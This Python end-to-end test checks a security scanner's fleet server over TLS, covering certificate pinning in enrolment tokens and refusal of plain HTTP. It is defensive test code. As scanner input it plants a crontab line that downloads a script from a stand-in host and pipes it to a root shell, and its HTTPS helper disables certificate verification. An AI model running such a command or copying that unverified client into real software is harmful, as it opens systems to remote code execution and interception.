"""The fleet over HTTPS: `rasoat server --tls-cert --tls-key` serves TLS;
`token create --tls-cert` puts the certificate's public-key pin in the
token; an agent enrolled with it talks to that server only (libcurl's
CURLOPT_PINNEDPUBLICKEY): a token whose pin names another key cannot enrol,
and plain HTTP to the TLS port gets no answer."""
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import Tree, check, done, run  # noqa: E402
from fleet_e2e import Agent, Server, make_root, require_backend  # noqa: E402

PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def make_cert(t, name):
    key, cert = t.p(name + ".key"), t.p(name + ".pem")
    p = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                        "-nodes", "-keyout", key, "-out", cert, "-days", "2", "-subj", "/CN=rasoat-test"],
                       capture_output=True, text=True)
    check(p.returncode == 0, f"openssl req: {p.stderr}")
    return cert, key


def main():
    require_backend("test_fleet_tls")
    if not shutil.which("openssl"):
        print("test_fleet_tls: SKIP: the openssl command is not installed (needed to make a test certificate)")
        return
    with Tree("rasoat-fleet-tls-") as t:
        cert, key = make_cert(t, "server")
        other_cert, _ = make_cert(t, "other")
        db = t.p("fleet.db")
        srv = Server(db, extra=["--tls-cert", cert, "--tls-key", key]).start()
        try:
            scenario(t, srv, cert, other_cert)
        finally:
            srv.kill9()
    done("test_fleet_tls", PASSED)


def scenario(t, srv, cert, other_cert):
    url = f"https://127.0.0.1:{srv.port}"
    code, out, err = run("server", "--db", srv.db_url, "--tls-cert", cert, "token", "create")
    token = out.strip()
    ok(code == 0 and len(token.split(".")) == 4, f"a TLS token carries a pin: {token}")
    code, out, err = run("server", "--db", srv.db_url, "--tls-cert", other_cert, "token", "create")
    wrong = out.strip()
    ok(token.split(".")[3] != wrong.split(".")[3], "another certificate gives another pin")

    stranger = Agent(t.p("stranger"))
    code, err = stranger.enrol(url, wrong, expect=2)
    ok("pinned" in err, f"a server whose key is not the pinned one is refused: {err}")

    agent = Agent(t.p("agent"))
    agent.enrol(url, token)
    root = make_root(t, "host", ["* * * * * root curl http://a.example/x.sh | sh"])
    code, out, err = agent.run_once(root)
    ok(code == 0 and agent.spool() == [], f"check-in and upload over pinned TLS: {code} {err[-500:]}")
    key = srv.apikey()
    status, body, _ = tls_get(srv.port, "/api/v1/findings", key)
    ok(status == 200 and len(body["items"]) >= 1 and body["items"][0]["host"] == agent.id,
       f"the findings arrived over TLS: {status}")
    try:
        status, _, _ = srv.get("/api/v1/hosts", key)
    except Exception:  # noqa: BLE001 - any failure to speak plain HTTP is the point
        status = None
    ok(status != 200, "plain HTTP to the TLS port is not served")


def tls_get(port, path, key):
    import http.client
    import json
    import ssl
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    conn = http.client.HTTPSConnection("127.0.0.1", port, timeout=10, context=ctx)
    conn.request("GET", path, headers={"Authorization": "Bearer " + key})
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, json.loads(data), None


if __name__ == "__main__":
    main()
